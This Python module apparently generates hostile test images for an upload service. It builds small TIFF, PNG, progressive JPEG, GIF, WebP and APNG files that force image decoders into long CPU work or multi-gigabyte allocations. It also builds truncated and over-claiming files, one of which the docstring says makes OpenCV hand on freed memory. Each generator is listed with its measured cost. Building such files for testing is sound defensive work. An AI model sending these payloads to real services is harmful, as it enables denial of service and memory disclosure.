"""Small files that cost a decoder much: each is made here, and named after what it abuses.

Each is smaller than what may be uploaded. What it costs without a limit stands beside it: seconds
and memory of OpenCV 5.0, measured on one core for 20 s at most.

`claims` makes files that claim more than they hold, which a careless decoder fills with whatever
its memory held before.
"""

import io
import struct
import zlib
from collections.abc import Callable, Iterable

from PIL import Image

SIDE = 8000  # pixels, of the JPEG: as large as one may be


def tag(number: int, kind: int, count: int, value: int) -> bytes:
    """Return a directory entry of a little-endian TIFF."""
    return struct.pack("<HHII", number, kind, count, value)


def directory(tags: Iterable[bytes]) -> bytes:
    tags = list(tags)
    return struct.pack("<H", len(tags)) + b"".join(tags) + bytes(4)


def tiff(tags: Iterable[bytes], rest: bytes = b"") -> bytes:
    return b"II*\0\x08\0\0\0" + directory(tags) + rest


def page(width: int = 8, height: int = 8, compression: int = 1, **more: tuple) -> list[bytes]:
    """Return the tags of a gray page, `more` of them as _number=(kind, count, value).

    What follows the tags is its one strip.
    """
    tags = {
        "_256": (4, 1, width),
        "_257": (4, 1, height),
        "_258": (3, 1, 8),
        "_259": (3, 1, compression),
        "_262": (3, 1, 1),
        "_273": (4, 1, 0),
        "_278": (4, 1, height),
        "_279": (4, 1, width * height),
        **more,
    }
    if "_273" not in more:
        tags["_273"] = (4, 1, 14 + 12 * len(tags))
    return [
        tag(int(number[1:]), *tags[number])
        for number in sorted(tags, key=lambda number: int(number[1:]))
    ]


def segment(marker: int, data: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data


def chunk(kind: bytes, data: bytes = b"") -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def encode(kind: str, size: tuple[int, int] = (8, 8), mode: str = "L", **options) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, "white").save(out, kind, **options)
    return out.getvalue()


def to_bytes(bits: str) -> bytes:
    """Return bits as a JPEG's scan holds them: padded with ones, each 0xFF followed by a 0."""
    bits += "1" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big").replace(b"\xff", b"\xff\0")


def jpeg_of_scans(scans: int = 2000, side: int = SIDE) -> bytes:
    """Return a progressive JPEG that visits every block again in each scan: over 20 s."""
    frame = segment(0xC2, struct.pack(">BHHBBBB", 8, side, side, 1, 1, 0x11, 0))
    one_symbol = bytes([1, *[0] * 15])  # a Huffman table of one code, of one bit
    huffman = segment(0xC4, b"\0" + one_symbol + b"\0") + segment(
        0xC4, b"\x10" + one_symbol + b"\xe0"
    )
    blocks = (-(-side // 8)) ** 2
    first = segment(0xDA, bytes([1, 1, 0, 0, 0, 1])) + bytes(-(-blocks // 8))
    runs = to_bytes(("0" + "1" * 14) * -(-blocks // 32767))  # blocks without a coefficient
    again = segment(0xDA, bytes([1, 1, 0, 1, 63, 0x10])) + runs
    tables = segment(0xDB, b"\0" + b"\1" * 64)
    return b"\xff\xd8" + tables + frame + huffman + first + again * scans + b"\xff\xd9"


def tiff_of_scans() -> bytes:
    """Return a TIFF with such a JPEG in it: 1.8 s, since libtiff stops at a hundred scans."""
    jpeg = jpeg_of_scans(2000, 4000)
    return tiff(page(4000, 4000, 7, _279=(4, 1, len(jpeg))), jpeg)


def tiff_of_same_bytes(tags: int = 400, held: int = 5_000_000) -> bytes:
    """Return a TIFF of tags that hold the same bytes: 3.6 s, 2 GB."""
    return tiff(page(**{f"_{1000 + n}": (1, held, 8) for n in range(tags)}), bytes(held))


def tiff_of_strips(strips: int = 1_000_000) -> bytes:
    """Return a TIFF of a strip a row, all of them the same: 7 s."""
    start = 14 + 12 * 8
    places = struct.pack("<I", start + 8 * strips) * strips
    lengths = struct.pack("<I", 6) * strips
    strip = bytes.fromhex("800001010101")
    where = {"_273": (4, strips, start), "_279": (4, strips, start + 4 * strips)}
    return tiff(page(8, strips, 5, _278=(3, 1, 1), **where), places + lengths + strip)


def tiff_of_pages(pages: int = 190_000) -> bytes:
    """Return a TIFF of many pages: 0.1 s, and over 20 s of Pillow's."""
    tags = directory(page())[:-4]
    following = (8 + (len(tags) + 4) * number for number in range(1, pages))
    links = (struct.pack("<I", place) for place in (*following, 0))
    return b"II*\0\x08\0\0\0" + b"".join(tags + link for link in links)


def png_of_chunks(chunks: int = 1_500_000) -> bytes:
    """Return a PNG of empty chunks: 0.1 s, and a second where Python looks at each."""
    content = encode("PNG")
    return content[:33] + chunk(b"prVt") * chunks + content[33:]


def png_of_gamma(chunks: int = 40_000) -> bytes:
    """Return a PNG of many gammas: libpng writes a warning for each, 1 MB in all."""
    content = encode("PNG")
    return content[:33] + chunk(b"gAMA", b"\0\0\xb1\x8f") * chunks + content[33:]


def png_of_profiles(profiles: int = 15_000) -> bytes:
    """Return a PNG of color profiles, each of which unpacks to a megabyte: 0.1 s."""
    profile = chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(2**20)))
    content = encode("PNG")
    return content[:33] + profile * profiles + content[33:]


def png_of_length() -> bytes:
    """Return a PNG whose palette claims 2 GB: 2 s, 2 GB."""
    content = encode("PNG")
    return content[:33] + struct.pack(">I4s", 2**31 - 1, b"PLTE") + content[33:]


def gif_of_size() -> bytes:
    """Return a GIF of 4 billion pixels: 4 GB before the first is decoded."""
    content = encode("GIF")
    place = content.index(b",") + 5
    size = struct.pack("<HH", 65_535, 65_535)
    return content[:6] + size + content[10:place] + size + content[place + 4 :]


def webp_of_canvas() -> bytes:
    """Return an animation of 8 by 8 pixels on a canvas of 268 million: 2 GB."""
    image = Image.new("L", (8, 8), 7)
    content = encode("WEBP", save_all=True, append_images=[image])
    return content[:24] + (16_382).to_bytes(3, "little") * 2 + content[30:]


def gif_of_tables(tables: int = 1_000_000) -> bytes:
    """Return a GIF that empties its table of codes for each code: 8 s."""
    codes = int("100" * 8, 2).to_bytes(3, "little") * (tables // 8)
    blocks = (codes[i : i + 255] for i in range(0, len(codes), 255))
    head = b"GIF89a" + struct.pack("<HHBBB", 8, 8, 0x80, 0, 0) + bytes(6)
    frame = b"," + struct.pack("<HHHHBB", 0, 0, 8, 8, 0, 2)
    return head + frame + b"".join(bytes([len(b)]) + b for b in blocks) + b"\0;"


def claim_rows(content: bytes, height: int) -> bytes:
    """Return a TIFF of one strip with another height."""
    place = int.from_bytes(content[4:8], "little")
    content = bytearray(content)
    for entry in range(place + 2, place + 2 + 12 * content[place], 12):
        if int.from_bytes(content[entry : entry + 2], "little") in (257, 278):
            content[entry + 2 : entry + 12] = struct.pack("<HII", 4, 1, height)
    return bytes(content)


def apng(width: int = 280, height: int = 280, rows: int = 2) -> bytes:
    """Return an animated PNG of fewer rows than it claims; OpenCV hands on freed memory for it."""
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
        + chunk(b"acTL", struct.pack(">II", 2, 0))
        + chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, width, height, 0, 0, 1, 1, 0, 0))
        + chunk(b"IDAT", zlib.compress((b"\0" + b"\xff" * width) * rows))
        + chunk(b"IEND")
    )


def claims() -> dict[str, bytes]:
    """Return files that claim more than they hold, of every kind that is read."""
    files = {"APNG": apng(), "PNG of 2 rows": apng().replace(b"acTL", b"acTl")}
    for compression in ("group3", "group4", "tiff_ccitt"):
        content = encode("TIFF", (400, 8), "1", compression=compression)
        files[f"TIFF, {compression}"] = claim_rows(content, 400)
    for mode in ("L", "RGB"):
        for compression in ("jpeg", "packbits", "tiff_lzw", "tiff_adobe_deflate", "raw"):
            content = encode("TIFF", (96, 8), mode, compression=compression)
            files[f"TIFF, {compression}, {mode}"] = claim_rows(content, 96)
    whole = {
        "PNG": encode("PNG", (96, 96), "RGBA"),
        "JPEG": encode("JPEG", (96, 96), "RGB"),
        "progressive JPEG": encode("JPEG", (96, 96), "RGB", progressive=True),
        "WebP": encode("WEBP", (96, 96), "RGB"),
        "lossless WebP": encode("WEBP", (96, 96), "RGB", lossless=True),
        "GIF": encode("GIF", (96, 96)),
        "BMP": encode("BMP", (96, 96), "RGB"),
        "AVIF": encode("AVIF", (96, 96), "RGB"),
        "PPM": encode("PPM", (96, 96), "RGB"),
        "TIFF": encode("TIFF", (96, 96), "RGB"),
    }
    for kind, content in whole.items():
        for share in (0.4, 0.7, 0.95):
            files[f"{share:.0%} of a {kind}"] = content[: int(share * len(content))]
    height = {  # where it stands, and how
        "JPEG": (whole["JPEG"].index(b"\xff\xc0") + 5, ">H"),
        "progressive JPEG": (whole["progressive JPEG"].index(b"\xff\xc2") + 5, ">H"),
        "WebP": (28, "<H"),
        "GIF": (8, "<H"),
        "BMP": (22, "<I"),
    }
    for kind, (place, form) in height.items():
        content = bytearray(whole[kind])
        struct.pack_into(form, content, place, 900)
        files[f"tall {kind}"] = bytes(content)
    return files | {"tall PPM": whole["PPM"].replace(b"96 96", b"96 900")}


ATTACKS: dict[str, Callable[[], bytes]] = {
    attack.__name__: attack
    for attack in (
        jpeg_of_scans,
        tiff_of_scans,
        tiff_of_same_bytes,
        tiff_of_strips,
        tiff_of_pages,
        png_of_chunks,
        png_of_gamma,
        png_of_profiles,
        png_of_length,
        gif_of_size,
        webp_of_canvas,
    )
}
